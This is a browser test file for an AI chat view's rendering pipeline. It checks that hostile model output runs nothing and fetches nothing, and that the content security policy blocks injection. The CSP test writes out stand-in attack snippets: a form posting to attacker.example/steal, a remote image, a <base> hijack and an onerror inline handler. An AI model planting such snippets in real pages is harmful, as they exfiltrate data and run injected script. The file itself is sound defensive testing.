// Hostile model output through the chat view's whole rendering pipeline (markdown-it, DOMPurify,
// highlight.js, the DOM, the link handler) in a real browser: Debian's Chromium through
// playwright-core, as the e2e layer drives it, with the chat's stylesheet, as wide as a side bar.
// The page has no CSP (the chat view's CSP is a further layer), so whatever the rendered answer
// would run or fetch is seen here: every request the page makes is recorded and refused, and every
// dialog and script error is recorded.
import { strict as assert } from 'node:assert';
import * as fs from 'node:fs';
import * as path from 'node:path';
import type { Browser, Page } from 'playwright-core';
import { chatCsp } from '../../src/host/chatCsp';
import type { RenderReport } from '../browser/renderHarness';
import { flat, hostileCorpus, hostileDir, streamPieces, type HostilePayload } from '../support/hostile';

const CHROMIUM = process.env.ASKLLM_CHROMIUM ?? '/usr/bin/chromium';
const ORIGIN = 'http://harness.invalid';

/** The harness bundle (esbuild.js --tests), found from dist/test/unit or test/unit. */
function harnessScript(): string {
  for (const dir of [path.join(__dirname, '../browser'), path.join(__dirname, '../../dist/test/browser')]) {
    const file = path.join(dir, 'renderHarness.js');
    if (fs.existsSync(file)) return fs.readFileSync(file, 'utf8');
  }
  throw new Error('dist/test/browser/renderHarness.js is missing: build with `node esbuild.js --tests` (npm run test:unit does)');
}

/** An answer with most of what models write, in English and Chinese, for the streamed comparison. */
const ANSWER = `# Streaming answers

Here is **bold text** and *emphasis*, then \`inline code\` and a link to https://example.com/docs or www.example.org and [the guide](https://example.com/guide "Guide").
Two trailing spaces make a break  
right here. Mail someone@example.com now, or example.com, or a.b.c words.

- first item with words
- second item, *with emphasis* at the end
  continued on the next line
1. numbered one
2. numbered two

> a quote with words and more words
> that goes on

| col a | col b |
|---|---|
| one two | three four |

\`\`\`ts
const x = 1; // words inside code
\`\`\`

Setext heading
==============

Text with &amp; entities &copy and a reference [link][ref] done, __strong__ and _under_score_words here.
Snake_case_names and 2 * 3 = 6, \\escaped \\* star, ~~struck~~ words.

[ref]: https://example.com/ref

Plain punctuation: «French», “curly”, ‘single’ and 'straight' — dash – en-dash, 100% + 2 = $3 ^ caret! e.g. example.org/path?x=1
or v1.2.3 and 3.14, an [unlinked] (parenthesis) and [the guide] (again), a [link](https://example.com/x) and #hash, done. Next sentence…

中文的回答也会流式显示，包括**粗体**和表情😀👍🏽以及 emoji 👨‍👩‍👧 family。Ünïcödé wörds façade naïve.
`;

/** Code blocks as models write them, and the ways a fence ends or is not what it seems. */
const CODE = `Some code:

\`\`\`ts
function add(a: number, b: number): number {
	return a + b; // tab-indented, <b>not bold</b> &amp; not an entity
}
const s = \`template \${add(1, 2)}\`;
  \`\`\` not a closing fence (text after it)
\`\`
\`\`\`\`

- in a list:
  \`\`\`py
  def f():
      return 1
  \`\`\`
> \`\`\`
> quoted code
> \`\`\`

~~~
tildes with \`\`\` inside
~~~~

\`\`\`\`md
\`\`\`
a fence inside a longer fence
\`\`\`
\`\`\`\`

   \`\`\`js
   indented fence, its lines lose up to three spaces
     like this one
   \`\`\`

\`\`\`
still open at the end of the answer
`;
const GROUPS = [3, 1, 7, 2, 9, 4, 1, 5, 8, 6];
const PROSE = `The answer streams into the chat one token at a time, and most of those tokens are words that
continue the paragraph being written, in English or in Chinese: 流式输出的大部分内容是普通的文字，它们接在正在写的段落后面，
中间也有逗号，问号和表情😀 that need no new render at all, until the paragraph ends with a full stop.
`;

function checkShown(p: HostilePayload, r: RenderReport, where: string): void {
  const text = flat(r.text);
  for (const s of p.show) assert.ok(text.includes(flat(s)), `${where}: ${JSON.stringify(s)} is not shown`);
  for (const link of p.links ?? []) assert.ok(r.hrefs.includes(link), `${where}: ${link} is not a link`);
  if (p.noLinks) assert.deepEqual(r.hrefs, [], `${where}: no link may be made`);
  if (p.minShown) assert.ok(text.length >= p.minShown, `${where}: ${text.length} characters shown, at least ${p.minShown} expected`);
}

describe('hostile output in a real browser: the chat view\'s rendering, every payload whole and streamed', function () {
  this.timeout(60_000);
  const corpus = hostileCorpus();
  let browser: Browser | undefined;
  let page: Page;
  /** What the page did that it must not: requests, dialogs, script errors, navigations. */
  const seen: string[] = [];

  before(async function () {
    this.timeout(60_000);
    assert.ok(fs.existsSync(CHROMIUM), `no Chromium at ${CHROMIUM} (Debian's chromium package; ASKLLM_CHROMIUM names another)`);
    const script = harnessScript();
    const css = fs.readFileSync(path.join(hostileDir(), '../../../media/chat.css'), 'utf8');
    const { chromium } = await import('playwright-core');
    browser = await chromium.launch({
      executablePath: CHROMIUM,
      args: ['--headless', '--no-sandbox', '--disable-gpu', '--no-first-run', '--disable-background-networking', '--disable-component-update',
        '--disable-sync', '--disable-dev-shm-usage'],
    });
    const context = await browser.newContext();
    await context.route('**/*', async (route) => {
      const url = route.request().url();
      if (url === `${ORIGIN}/`) {
        return route.fulfill({ contentType: 'text/html', body: '<!DOCTYPE html><html><head><meta charset="utf-8"><title>harness</title>'
          + '<link rel="stylesheet" href="/chat.css"><style>:root { --vscode-font-size: 13px; --vscode-font-family: sans-serif; } #scroller { width: 270px; height: 600px; }</style></head><body></body><script src="/harness.js"></script></html>' });
      }
      if (url === `${ORIGIN}/chat.css`) return route.fulfill({ contentType: 'text/css', body: css });
      if (url === `${ORIGIN}/harness.js`) return route.fulfill({ contentType: 'text/javascript', body: script });
      seen.push(`request ${route.request().method()} ${url.slice(0, 120)}`);
      return route.abort();
    });
    page = await context.newPage();
    page.on('dialog', (d) => {
      seen.push(`dialog ${d.type()}: ${d.message()}`);
      void d.dismiss();
    });
    page.on('pageerror', (err) => seen.push(`script error: ${err.message}`));
    page.on('popup', (p) => seen.push(`popup ${p.url()}`));
    await loadHarness();
    page.on('framenavigated', (f) => {
      if (f.url() !== `${ORIGIN}/`) seen.push(`navigation to ${f.url()}`);
    });
  });

  after(async () => {
    await browser?.close();
  });

  async function loadHarness() {
    await page.goto(`${ORIGIN}/`);
    await page.waitForFunction(() => 'hostile' in window);
  }

  const render = (text: string, chunks: string[] | null) =>
    page.evaluate(([t, c]) => (window as unknown as { hostile: { render(t: string, c: string[] | null): RenderReport } }).hostile.render(t, c), [text, chunks] as const);

  for (const p of hostileCorpus()) {
    it(`${p.name}: nothing runs, nothing is fetched, links go through the handler, the text is shown`, async () => {
      // A payload that got the page to navigate fails on its own, not every one after it.
      if (!(await page.evaluate(() => 'hostile' in window).catch(() => false))) await loadHarness();
      const from = seen.length;
      const seeds = p.text.length > 4000 ? [1] : [1, 2];
      const runs: Array<[string, string[] | null]> = [['whole', null], ...seeds.map((seed): [string, string[]] => [`streamed ${seed}`, streamPieces(p.text, seed)])];
      for (const [mode, chunks] of runs) {
        const r = await render(p.text, chunks);
        const where = `${p.name} (${mode})`;
        assert.deepEqual(r.problems, [], `${where}: the rendered answer holds what it must not`);
        assert.deepEqual(r.outOfView, [], `${where}: part of the answer is out of view`);
        assert.ok(r.opened.every((u) => /^https?:\/\//.test(u)), `${where}: a click asked to open ${r.opened.join(' ')}`);
        assert.equal(r.opened.length, r.hrefs.slice(0, 40).filter((h) => /^https?:/i.test(h)).length, `${where}: every http(s) link click reaches the handler`);
        if (mode === 'whole') assert.ok(r.ms < 10_000, `${where}: rendering took ${Math.round(r.ms)} ms`);
        checkShown(p, r, where);
      }
      // Let anything the DOM queued (image loads, error events, timers) happen before looking.
      await page.waitForTimeout(30);
      assert.deepEqual(seen.slice(from), [], `${p.name}: the page ran or fetched something`);
    });
  }

  it('nothing ran or was fetched after the last payload either', async () => {
    await page.waitForTimeout(300);
    assert.deepEqual(seen, []);
    assert.ok(corpus.length >= 40);
  });

  // A model's tokens: a word piece with the space before it, one punctuation mark, or one space.
  const tokens = (text: string) => text.match(/ ?[\p{L}\p{N}]{1,4}| ?[^\p{L}\p{N}\s]|\s/gu) ?? [];
  const streamed = (pieces: string[]) =>
    page.evaluate((c) => (window as unknown as { hostile: { streamed(c: string[]): { mismatches: string[]; inPlace: number } } }).hostile.streamed(c), pieces);

  it('streamed token by token, words added in place: after every token the view shows what a whole render of the answer so far shows', async () => {
    if (!(await page.evaluate(() => 'hostile' in window).catch(() => false))) await loadHarness();
    const pieces = tokens(ANSWER);
    const r = await streamed(pieces);
    assert.deepEqual(r.mismatches, []);
    assert.ok(r.inPlace > pieces.length / 4, `${r.inPlace} of ${pieces.length} tokens went in place`);
    // In prose almost every token is a word that continues the paragraph: it skips the render.
    const words = tokens(PROSE);
    const prose = await streamed(words);
    assert.deepEqual(prose.mismatches, []);
    assert.ok(prose.inPlace > words.length * 0.8, `${prose.inPlace} of ${words.length} tokens of prose went in place`);
    // At hundreds of tokens a second a frame brings several: 1 to 9 tokens at a time.
    const frames = (list: string[], size = GROUPS) => {
      const out: string[] = [];
      for (let i = 0, k = 0; i < list.length; k++) out.push(list.slice(i, (i += size[k % size.length])).join(''));
      return out;
    };
    assert.deepEqual((await streamed(frames(pieces))).mismatches, [], 'several tokens a frame');
    // Inside an open fenced block, code goes onto the block's text in place too.
    const code = tokens(CODE);
    const inCode = await streamed(code);
    assert.deepEqual(inCode.mismatches, []);
    assert.ok(inCode.inPlace > code.length / 3, `${inCode.inPlace} of ${code.length} tokens of code went in place`);
    assert.deepEqual((await streamed(frames(code))).mismatches, [], 'code, several tokens a frame');
    assert.deepEqual((await streamed(frames(code, [2, 11, 1, 30, 4]))).mismatches, [], 'code, other frames');
    for (const p of corpus.filter((c) => c.text.length <= 4000)) { // token by token, each rendered whole beside it: quadratic
      assert.deepEqual((await streamed(tokens(p.text))).mismatches, [], p.name);
      assert.deepEqual((await streamed(frames(tokens(p.text)))).mismatches, [], `${p.name}, several tokens a frame`);
    }
  });

  it('the chat view\'s CSP (a further layer) refuses data: images, <base>, form submissions, inline handlers and remote loads', async () => {
    const context = await browser!.newContext();
    const requests: string[] = [];
    await context.route('**/*', async (route) => {
      const url = route.request().url();
      if (url === `${ORIGIN}/csp`) {
        const csp = chatCsp(ORIGIN, 'harness-nonce').replace(/"/g, '&quot;');
        return route.fulfill({ contentType: 'text/html', body: `<!DOCTYPE html><html><head><meta http-equiv="Content-Security-Policy" content="${csp}"></head><body></body></html>` });
      }
      requests.push(url);
      return route.abort();
    });
    try {
      const csp = await context.newPage();
      await csp.goto(`${ORIGIN}/csp`);
      const found = await csp.evaluate(async () => {
        const refused: string[] = [];
        document.addEventListener('securitypolicyviolation', (e) => refused.push(e.effectiveDirective));
        const w = window as unknown as { ran?: boolean };
        document.body.innerHTML = '<img id="data" src="data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///ywAAAAAAQABAAACAUwAOw==">'
          + '<img src="https://attacker.example/remote.png"><img src="x" onerror="window.ran = true">';
        const base = document.createElement('base');
        base.href = 'https://attacker.example/';
        document.head.append(base);
        const a = document.createElement('a');
        a.setAttribute('href', 'relative');
        await new Promise((r) => setTimeout(r, 500));
        const img = document.getElementById('data') as HTMLImageElement;
        return { refused, ran: w.ran === true, dataLoaded: img.complete && img.naturalWidth > 0, link: a.href };
      });
      assert.equal(found.dataLoaded, false, 'a data: image is not shown');
      assert.equal(found.link, `${ORIGIN}/relative`, 'a <base> in the page changes nothing');
      assert.equal(found.ran, false, 'an inline event handler does not run');
      for (const d of ['img-src', 'base-uri', 'script-src-attr']) assert.ok(found.refused.includes(d), `refused by ${d} (${found.refused.join(', ')})`);
      // A form in the page submits nowhere.
      await csp.evaluate(() => {
        document.addEventListener('securitypolicyviolation', (e) => document.body.setAttribute('data-refused', e.effectiveDirective));
        const form = document.createElement('form');
        form.action = 'https://attacker.example/steal';
        form.method = 'post';
        document.body.append(form);
        form.submit();
      }).catch(() => undefined);
      await csp.waitForTimeout(500);
      assert.equal(await csp.evaluate(() => document.body.getAttribute('data-refused')).catch(() => 'navigated away'), 'form-action');
      assert.deepEqual(requests.filter((u) => u.includes('attacker.example')), [], 'nothing reached the remote host');
    } finally {
      await context.close();
    }
  });
});
